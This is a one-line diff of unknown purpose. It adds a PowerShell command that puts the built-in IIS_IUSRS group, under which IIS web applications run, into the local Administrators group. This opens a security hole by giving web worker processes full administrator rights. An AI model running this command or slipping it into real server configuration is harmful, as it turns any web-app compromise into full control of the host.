@@ -1,0 +1,1 @@
+'BUILTIN\IIS_IUSRS' | Add-LocalGroupMember -Group 'Administrators'
